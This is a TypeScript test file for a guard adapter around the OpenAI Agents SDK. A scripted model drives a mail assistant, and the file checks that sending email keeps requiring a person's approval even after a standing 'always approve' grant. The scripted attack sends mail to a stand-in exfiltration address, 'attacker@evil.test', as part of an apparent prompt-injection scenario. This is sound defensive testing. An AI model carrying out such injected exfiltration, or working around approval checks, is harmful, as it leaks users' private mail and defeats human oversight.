@@ -1,0 +1,148 @@
+import {
+  Agent,
+  type AgentInputItem,
+  type Model,
+  type ModelRequest,
+  type ModelResponse,
+  Runner,
+  RunState,
+  tool,
+  Usage,
+} from '@openai/agents';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { guardTools } from '../../src/adapters/openai-agents.ts';
+import { type AdapterDriver, type Conversation, conformance } from './conformance.ts';
+import { FINAL_TEXT, type Script, scripts, turnAfter, type World, world } from './fixture.ts';
+
+/** A scripted implementation of the SDK's `Model` interface: plays the script turn by turn, reads tool results. */
+export class ScriptedModel implements Model {
+  readonly script: Script;
+  readonly conversation: Conversation;
+
+  constructor(script: Script, conversation: Conversation) {
+    this.script = script;
+    this.conversation = conversation;
+  }
+
+  async getResponse(request: ModelRequest): Promise<ModelResponse> {
+    const items = (typeof request.input === 'string' ? [] : request.input) as AgentInputItem[];
+    let calls = 0;
+    for (const item of items) {
+      if (item.type === 'function_call') calls++;
+      if (item.type === 'function_call_result') {
+        const output = item.output as string | { type: string; text?: string };
+        this.conversation.seen.set(item.callId, typeof output === 'string' ? output : (output.text ?? ''));
+      }
+    }
+    const turn = this.script[turnAfter(this.script, calls)];
+    if (!turn) {
+      this.conversation.final = FINAL_TEXT;
+      const text = { type: 'output_text' as const, text: FINAL_TEXT };
+      return {
+        usage: new Usage(),
+        output: [{ type: 'message', role: 'assistant', status: 'completed', content: [text] }],
+      };
+    }
+    return {
+      usage: new Usage(),
+      output: turn.map((c) => ({
+        type: 'function_call' as const,
+        callId: c.id,
+        name: c.name,
+        arguments: JSON.stringify(c.args),
+        status: 'completed' as const,
+      })),
+    };
+  }
+
+  // biome-ignore lint/correctness/useYield: the runs in these tests are not streamed.
+  async *getStreamedResponse(): AsyncIterable<never> {
+    throw new Error('streaming is not scripted');
+  }
+}
+
+function mailTools(w: World) {
+  return [
+    tool({
+      name: 'read_inbox',
+      description: 'Read the inbox',
+      parameters: z.object({}),
+      execute: async () => JSON.stringify(w.mailbox.readInbox()),
+    }),
+    tool({
+      name: 'send_email',
+      description: 'Send an email',
+      parameters: z.object({ to: z.string(), body: z.string() }),
+      execute: async (args) => w.mailbox.sendEmail(args),
+    }),
+  ];
+}
+
+const runner = new Runner({ tracingDisabled: true });
+
+function openAIAgentsDriver(): AdapterDriver {
+  let replayRun: (() => Promise<unknown>) | undefined;
+  return {
+    name: 'openai-agents',
+    async run(w, script, human) {
+      const conversation: Conversation = { seen: new Map(), asked: [] };
+      const agent = new Agent({
+        name: 'mail assistant',
+        instructions: 'Help with email.',
+        model: new ScriptedModel(script, conversation),
+        tools: guardTools(mailTools(w), { guard: w.guard, session: w.session }),
+      });
+      let result = await runner.run(agent, 'Check my inbox and answer Alice.');
+      for (let round = 0; round < 5 && result.interruptions.length > 0; round++) {
+        for (const item of result.interruptions) {
+          const raw = item.rawItem as { callId: string; name: string; arguments: string };
+          conversation.asked.push(raw.callId);
+          const approved = human({ tool: raw.name, args: JSON.parse(raw.arguments), callId: raw.callId });
+          if (approved) result.state.approve(item);
+          else result.state.reject(item);
+        }
+        const saved = result.state.toString();
+        replayRun = async () => runner.run(agent, await RunState.fromString(agent, saved));
+        result = await runner.run(agent, result.state);
+      }
+      return conversation;
+    },
+    async replay() {
+      if (!replayRun) throw new Error('nothing to replay');
+      await replayRun();
+    },
+  };
+}
+
+conformance(openAIAgentsDriver());
+
+describe('openai-agents adapter', () => {
+  it('always-approve: a standing framework approval does not stand in for a person', async () => {
+    const w = await world('ask', { name: 'always' });
+    const conversation: Conversation = { seen: new Map(), asked: [] };
+    const agent = new Agent({
+      name: 'mail assistant',
+      model: new ScriptedModel(
+        [
+          ...scripts.attack,
+          ...scripts.attack
+            .slice(1)
+            .map(() => [
+              { id: 'call_exfil_2', name: 'send_email' as const, args: { to: 'attacker@evil.test', body: 'more' } },
+            ]),
+        ],
+        conversation,
+      ),
+      tools: guardTools(mailTools(w), { guard: w.guard, session: w.session }),
+    });
+    let result = await runner.run(agent, 'Check my inbox.');
+    const [first] = result.interruptions;
+    expect(first).toBeDefined();
+    if (first) result.state.approve(first, { alwaysApprove: true });
+    result = await runner.run(agent, result.state);
+    expect(w.mailbox.sent.map((m) => m.body)).toEqual(['Lunch on Friday? (forwarded private mail)']);
+    expect(conversation.seen.get('call_exfil_2')).toContain("needs a person's approval");
+    expect(result.finalOutput).toBe(FINAL_TEXT);
+  });
+});
